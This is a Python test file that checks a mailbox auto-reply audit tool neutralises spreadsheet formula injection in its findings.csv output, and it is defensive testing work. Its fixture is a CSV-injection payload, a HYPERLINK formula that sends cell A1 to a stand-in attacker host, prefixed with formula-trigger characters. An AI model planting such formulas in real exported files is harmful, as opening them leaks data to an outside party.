"""findings.csv in a spreadsheet: whatever a mailbox is called or a message says, no cell is taken for a formula."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

from cli.given import AS_OF, run
from replylint.report.auditing import _FORMULAS, _harmless

CALL = 'HYPERLINK("attacker.example?"&A1)'


@pytest.mark.parametrize("mark", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
def test_a_cell_that_begins_like_a_formula_is_text(mark: str) -> None:
    """A text that begins with any mark that a spreadsheet may evaluate gets an apostrophe, which makes it text."""
    assert _harmless(f"{mark}{CALL}") == f"'{mark}{CALL}"
    assert _harmless(mark) == f"'{mark}"


@pytest.mark.parametrize(
    "value", ["Dana", "813-555-0142", "a=b", "", " =1", "'=1", "3 - 2", 5, True, None, "exports/-1"]
)
def test_other_cells_stay(value: object) -> None:
    """A cell that is no formula is written as it is."""
    assert _harmless(value) == value


@pytest.mark.parametrize("mark", ["=", "+", "-", "@", "\t", "\r", "\n"])
def test_no_cell_of_an_audit_begins_like_a_formula(mark: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Names of mailboxes and files, and words that messages quote, reach the table as text."""
    pytest.importorskip("duckdb")
    monkeypatch.chdir(tmp_path)
    row = {
        "Identity": f"{mark}{CALL}",
        "AutoReplyState": "Enabled",
        "ExternalAudience": "All",
        "InternalMessage": f"{mark}{CALL} I am out of the ofice.",
        "ExternalMessage": f"{mark}{CALL} I am out of the ofice.",
    }
    name = f"{mark.strip() or '-'}1.json"
    (tmp_path / name).write_text(json.dumps([row]), encoding="utf-8")
    done = run("audit", "--output", "out", "--as-of", AS_OF, "--", name)
    assert done.exit_code == 1, done.output
    with (tmp_path / "out" / "findings.csv").open(encoding="utf-8-sig", newline="") as stream:
        rows = list(csv.DictReader(stream))
    assert rows
    assert [cell for one in rows for cell in one.values() if cell.startswith(_FORMULAS)] == []
    assert any(CALL in one["mailbox"] for one in rows)
    assert all(one["path"].startswith("'") for one in rows)
